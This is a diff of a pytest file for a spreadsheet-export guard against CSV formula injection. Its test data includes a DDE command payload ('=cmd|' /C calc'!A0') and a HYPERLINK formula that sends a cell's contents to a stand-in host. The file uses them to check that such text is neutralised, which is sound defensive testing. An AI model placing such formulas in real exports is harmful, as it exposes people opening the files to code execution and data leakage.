@@ -5,13 +5,19 @@ import io
 
 import pytest
 
-from partners.spreadsheet import BYTE_ORDER_MARK, csv_lines, harmless
+from partners.spreadsheet import BYTE_ORDER_MARK, csv_lines, harmless, without_guard
 
 EXECUTED = [
     "=cmd@x.co",  # a valid e-mail address
     '=HYPERLINK("https://x.example?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
-    "+919876543210",
+    "+919876543210-1",
+    "+9 1",
+    "++91",
+    "+",
+    "-91",
+    "＋91",
+    "+९१",
     "@SUM(A1:A9)",
     "\t=1",
     " =1+1",
@@ -22,7 +28,17 @@ EXECUTED = [
     "\u3000＝1",
     "-",
 ]
-HARMLESS = ["", "Asha Rao", "asha=rao@example.com", "1-2", "'=1", '"=1"', "a\nb", "O'Brien; =1"]
+HARMLESS = [
+    "+919876543210",
+    "",
+    "Asha Rao",
+    "asha=rao@example.com",
+    "1-2",
+    "'=1",
+    '"=1"',
+    "a\nb",
+    "O'Brien; =1",
+]
 
 
 CELLS = {**{text: f"'{text}" for text in EXECUTED}, **{text: text for text in HARMLESS}}
@@ -41,3 +57,14 @@ def test_a_text_that_would_be_executed_gets_an_apostrophe(text, cell):
 @pytest.mark.parametrize("value", [0, -1, -0.5, None, 3.25])
 def test_a_number_of_ours_stays_one(value):
     assert harmless(value) is value
+
+
+@pytest.mark.parametrize(
+    ("cell", "text"),
+    [
+        *(("'=1+1", "=1+1"), ("'+919876543210", "+919876543210"), ("+91", "+91")),
+        *((each, each) for each in ("O'Brien", "'tis", "'", "''=1")),
+    ],
+)
+def test_an_apostrophe_is_taken_off_what_would_be_executed_and_off_a_number(cell, text):
+    assert without_guard(cell) == text
